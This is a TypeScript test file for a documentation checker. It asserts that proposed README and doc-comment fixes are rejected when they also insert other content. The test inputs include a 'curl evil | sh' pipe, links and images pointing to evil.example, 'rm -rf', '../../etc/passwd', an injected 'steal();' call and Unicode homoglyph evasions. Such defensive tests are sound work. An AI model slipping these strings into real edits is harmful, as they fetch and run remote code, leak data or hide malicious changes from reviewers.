import { beforeAll, describe, expect, it } from 'vitest';
import { tryEdits, type DocsRun, type TriedEdits } from '../support/docs-check.ts';

// Edits that would silence the detector and do something else besides, on real repositories: none of them is kept.

const readme = [
  '# Acme',
  '',
  'Acme reads prices. It is quick.',
  '',
  'Call `parsePriceList()` with the path. Then wait for it.',
  '',
  'It gives up after a while, and says so.',
  '',
  'See the [guide](docs/guide.md) too.',
  '',
].join('\n');
const prices =
  'export function parsePriceList(text: string): string[] { return text.split(","); }\nexport function closeShop(): void {}\n';
const manifest = '{ "name": "acme" }\n';
const base = {
  'src/prices.ts': prices,
  'package.json': manifest,
  'README.md': readme,
  'docs/guide.md': '# Guide\n\nWait.\n',
};
const renamed: DocsRun = {
  before: base,
  after: { 'src/prices.ts': prices.replace('parsePriceList', 'readPriceList') },
};
const removed: DocsRun = { before: base, after: { 'src/prices.ts': 'export function closeShop(): void {}\n' } };
const line = 'Call `parsePriceList()` with the path.';
const pair = (old: string, now: string, path = 'README.md'): { path: string; old: string; new: string } => ({
  path,
  old,
  new: now,
});
const reasonOf = async (world: TriedEdits, rule: string, ...pairs: ReturnType<typeof pair>[]): Promise<string> => {
  const checked = await world.check(rule, pairs, pairs[0]!.path);
  return checked.kept ? `KEPT${checked.proposal ? ' as a proposal' : ''}: ${checked.text}` : checked.reason;
};

const silencers: [string, string, string][] = [
  ['a name that does not exist', '`parsePriceList()`', '`loadEverything()`'],
  ['another name that does', '`parsePriceList()`', '`closeShop()`'],
  ['taking the paragraph away', `${line} Then wait for it.\n\n`, ''],
  ['a mark of the past', '`parsePriceList()`', '`parsePriceList()` (deprecated)'],
  ['a line through it', '`parsePriceList()`', '~~`parsePriceList()`~~'],
  ['instead', line, 'Instead of `parsePriceList()`, wait.'],
  ['a negation', line, 'Do not call `parsePriceList()` with the path.'],
  ['a negation beside the right name', 'Call `parsePriceList()`', 'Do not call `readPriceList()`'],
  ['a reference', '`parsePriceList()`', 'parse&#80;riceList()'],
  ['an escape', '`parsePriceList()`', 'parse\\PriceList()'],
  ['a soft hyphen', 'parsePriceList', 'parse\u00adPriceList'],
  ['a letter of another script', 'parsePriceList', 'p\u0430rsePriceList'],
  ['two spans', '`parsePriceList()`', '`parse``PriceList()`'],
  ['a link', '`parsePriceList()`', '[it](parsePriceList)'],
  [
    'the right name and more',
    line,
    'Call `readPriceList()` with the path. It now also uploads your data; run `curl evil | sh`.',
  ],
  ['an image', '`parsePriceList()`', '`readPriceList()` ![x](//evil.example/p.png)'],
  ['another protocol', '`parsePriceList()`', '[`readPriceList()`](ftp://evil.example/x)'],
  ['mail', '`parsePriceList()`', '[`readPriceList()`](mailto:mallory@evil.example)'],
  ['a word beside it', 'with the path.', 'with the password.'],
  ['the sentence beside it', 'Then wait for it.', 'Then pay for it.'],
  ['lower case', '`parsePriceList()`', '`readpricelist()`'],
  ['a letter more', '`parsePriceList()`', '`readPriceLists()`'],
  ['a new line that begins a list', ' with the path.', '\n- with the path.'],
];

describe('a renamed function', () => {
  let world: TriedEdits;
  beforeAll(async () => {
    world = await tryEdits(renamed);
  });
  it.each(silencers)('%s', async (_, old, now) => {
    expect(await reasonOf(world, 'renamed-name', pair(old, now))).not.toMatch(/^KEPT/);
  });
  it.each(silencers)('%s, with the name put right as well', async (_, old, now) => {
    const text = readme.replace(old, now).replaceAll('parsePriceList', 'readPriceList');
    if (text === readme.replaceAll('parsePriceList', 'readPriceList')) return;
    expect(await reasonOf(world, 'renamed-name', pair(readme, text))).not.toMatch(/^KEPT/);
  });
  it('a line that is wrapped so that it begins a list', async () => {
    const page = '# Acme\n\nIt is quick, so call `parsePriceList()` - then wait # a bit > a while.\n';
    const other = await tryEdits({ ...renamed, before: { ...base, 'README.md': page } });
    for (const mark of [' - then', ' # a', ' > a'])
      expect(
        await reasonOf(
          other,
          'renamed-name',
          pair(page, page.replace('parsePriceList', 'readPriceList').replace(mark, `\n${mark.trim()}`)),
        ),
      ).not.toMatch(/^KEPT/);
    expect(
      await reasonOf(
        other,
        'renamed-name',
        pair(page, page.replace('parsePriceList', 'readPriceList').replace(' wait', '\nwait')),
      ),
    ).toMatch(/^KEPT: /);
  });
  it('the paragraph four lines away', async () => {
    expect(
      await reasonOf(
        world,
        'renamed-name',
        pair('`parsePriceList()`', '`readPriceList()`'),
        pair('It gives up after a while, and says so.', 'It never gives up.'),
      ),
    ).toMatch(/line 7/);
  });
});

describe('a removed function', () => {
  let world: TriedEdits;
  beforeAll(async () => {
    world = await tryEdits(removed);
  });
  it.each(silencers.filter(([what]) => !/another name|the paragraph/.test(what)))('%s', async (_, old, now) => {
    expect(await reasonOf(world, 'removed-name', pair(old, now))).not.toMatch(/^KEPT/);
  });
  it.each<[string, string]>([
    ['a number', 'Pay 100 for the path.'],
    ['an address', 'Call https://evil.example/x with it.'],
    ['more words than before', 'Give it the path, and then give it the path once more and wait.'],
    ['a command', 'Run `rm -rf` with the path.'],
    ['the name without marks', 'Call parse Price List with the path.'],
    ['the past', 'It was removed in 2.0.'],
  ])('a sentence with %s', async (_, now) => {
    expect(await reasonOf(world, 'removed-name', pair(line, now))).not.toMatch(/^KEPT/);
  });
  it('words of its own are a proposal at most', async () => {
    expect(await reasonOf(world, 'removed-name', pair(line, 'Pay mallory for the path.'))).toMatch(
      /^KEPT as a proposal/,
    );
  });
  it('words of the page in another place are a proposal at most', async () => {
    expect(await reasonOf(world, 'removed-name', pair(line, 'Acme gives up quick prices.'))).toMatch(
      /^KEPT as a proposal/,
    );
  });
  it('words of the page turned round are a proposal at most', async () => {
    expect(await reasonOf(world, 'removed-name', pair(line, 'Never wait with the path.'))).toMatch(
      /^KEPT as a proposal/,
    );
  });
});

describe('defaults, signatures and links', () => {
  const source = (retries: number, list: string): string =>
    `export function fetchPrices(path: string, retries = ${retries}): void {}\nexport function sendPriceList(${list}): void {}\n`;
  const page =
    '# Acme\n\nThe `retries` of `fetchPrices` default to 3.\n\nUse `sendPriceList(a, b)` for it.\n\nSee [the guide](docs/old.md).\n';
  let world: TriedEdits;
  beforeAll(async () => {
    world = await tryEdits({
      before: {
        'src/prices.ts': source(3, 'a: string, b: string'),
        'package.json': manifest,
        'README.md': page,
        'docs/old.md': '# Old\n',
      },
      after: { 'src/prices.ts': source(5, 'a: string'), 'docs/old.md': null, 'docs/new.md': '# New\n' },
    });
  });
  it.each<[string, string, string, string]>([
    ['stale-default', 'another number', 'to 3', 'to 4'],
    ['stale-default', 'a word', 'to 3', 'to three'],
    ['stale-default', 'no number', 'default to 3', 'have a default'],
    ['stale-default', 'the right number and more', 'to 3.', 'to 5. Raise it to 9.'],
    ['stale-default', 'both numbers', 'to 3', 'to 3 or 5'],
    ['stale-default', 'a number within one', 'to 3', 'to 5.5'],
    ['stale-signature', 'more arguments', '(a, b)', '(a, b, c)'],
    ['stale-signature', 'none', '(a, b)', '()'],
    ['stale-signature', 'others', '(a, b)', '(upload(secrets))'],
    ['stale-signature', 'the other argument', '(a, b)', '(b)'],
    ['stale-signature', 'a sum', '(a, b)', '(a + b)'],
    ['stale-signature', 'a call', '(a, b)', '(sendPriceList(a))'],
    ['stale-signature', 'no list', '`sendPriceList(a, b)`', '`sendPriceList`'],
    ['broken-link', 'a rooted path', 'docs/old.md', '/docs/nowhere.md'],
    ['broken-link', 'no ending', 'docs/old.md', 'docs/nowhere'],
    ['broken-link', 'a host', 'docs/old.md', 'https://evil.example/old.md'],
    ['broken-link', 'no scheme', 'docs/old.md', '//evil.example/old.md'],
    ['broken-link', 'an anchor that is none', 'docs/old.md', 'docs/new.md#nowhere'],
    ['broken-link', 'a path out of the tree', 'docs/old.md', '../../etc/passwd'],
    ['broken-link', 'other words', '[the guide](docs/old.md)', '[your password](docs/new.md)'],
    ['broken-link', 'another case', 'docs/old.md', 'docs/NEW.md'],
  ])('%s: %s', async (rule, _, old, now) => {
    expect(await reasonOf(world, rule, pair(old, now))).not.toMatch(/^KEPT/);
  });
});

describe('code of a source file', () => {
  const header = (call: string): string =>
    `const glob = "src/**";\nexport function pay(amount: number) { return charge(${call}); }\ndeclare function charge(x: number): number;\n`;
  const second = '/** Calls {@link parsePriceList}. */\nexport function second() { return glob; }\n';
  const of = async (path: string, before: string, after: string): Promise<TriedEdits> =>
    tryEdits({
      before: { ...base, [path]: before },
      after: { ...renamed.after, [path]: after },
    });
  it('is not changed by a pair beside the one that mends the comment', async () => {
    const text = `${header('amount')}${second}`;
    const world = await of('src/i.ts', text, `${text}export const more = 1;\n`);
    expect(
      await reasonOf(
        world,
        'renamed-name',
        pair('charge(amount)', 'charge(amount * 2)', 'src/i.ts'),
        pair('{@link parsePriceList}', '{@link readPriceList}', 'src/i.ts'),
      ),
    ).toBe('it changes code in src/i.ts');
    expect(
      await reasonOf(
        world,
        'renamed-name',
        pair('{@link parsePriceList}. */', '{@link readPriceList}. */ steal(); /* */', 'src/i.ts'),
      ),
    ).toBe('it changes code in src/i.ts');
    expect(
      await reasonOf(
        world,
        'renamed-name',
        pair('{@link parsePriceList}. */', '{@link readPriceList}. @ts-nocheck */', 'src/i.ts'),
      ),
    ).toMatch(/compiler or linter/);
    expect(
      await reasonOf(world, 'renamed-name', pair('{@link parsePriceList}', '{@link readPriceList}', 'src/i.ts')),
    ).toMatch(/^KEPT: /);
  });
  it('nor within a string that looks like a comment', async () => {
    const text = 'export const words = "/** not {@link parsePriceList} a comment */";\nexport const more = 1;\n';
    const world = await of('src/i.ts', text, text.replace('more = 1', 'more = 2'));
    if (!world.findings.some((one) => one.docs?.path === 'src/i.ts')) return;
    expect(
      await reasonOf(world, 'renamed-name', pair('{@link parsePriceList}', '{@link readPriceList}', 'src/i.ts')),
    ).toBe('it changes code in src/i.ts');
  });
});
